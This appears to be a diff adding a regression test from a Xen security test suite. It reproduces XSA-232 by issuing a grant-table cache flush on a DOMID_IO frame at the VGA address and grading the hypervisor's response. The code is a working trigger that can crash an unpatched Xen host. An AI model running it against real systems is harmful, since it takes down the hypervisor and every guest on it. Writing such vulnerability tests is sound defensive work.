@@ -1,0 +1,46 @@
+/*
+ * XSA-232 (CVE-2017-14318): a cache flush of a frame whose owner has no grant table.
+ *
+ * @title     GNTTABOP_cache_flush on a frame of Xen's own domains
+ * @affected  Xen 4.5 to 4.9; fixed in 4.9.1
+ * @platforms xen-pv xen-pvh
+ * @expect    4=good 4/xen-pvh=cannot-tell
+ *
+ * Background: GNTTABOP_cache_flush takes a machine address. The caller has to own the frame, or
+ * to have it mapped by a grant of its owner.
+ *
+ * Mechanism: the owner's grant table was looked at without asking whether it has one. DOMID_IO,
+ * which owns the first MiB, has none: Xen read by a NULL pointer.
+ *
+ * Verdicts: good: -EPERM. bad: the hypervisor crashes, or takes it.
+ *
+ * Cannot tell: where the address is no frame that Xen knows (-EINVAL), and on PVH, since Xen does
+ * not let a guest with hardware virtualization make this call (-ENOSYS).
+ */
+#include "repro/kit.h"
+
+#define VGA_MEMORY 0xb8000
+
+static long flush(u64 address)
+{
+    struct gnttab_cache_flush op = {
+        .a.dev_bus_addr = address, .length = 64, .op = GNTTAB_CACHE_CLEAN};
+
+    return hc_grant_table_op(GNTTABOP_cache_flush, &op, 1);
+}
+
+REPRO("xsa-232")
+{
+    long result;
+
+    kit_needs(KIT_XEN);
+    result = flush(VGA_MEMORY);
+    if (result == -EINVAL)
+        cannot_tell("Xen knows no frame at 0x%x", VGA_MEMORY);
+    if (result == -XEN_ENOSYS)
+        cannot_tell("Xen does not offer this call here (-ENOSYS)");
+    exercised();
+    if (result == -EPERM)
+        good("a frame of DOMID_IO: -EPERM");
+    bad("a frame of DOMID_IO: %ld", result);
+}
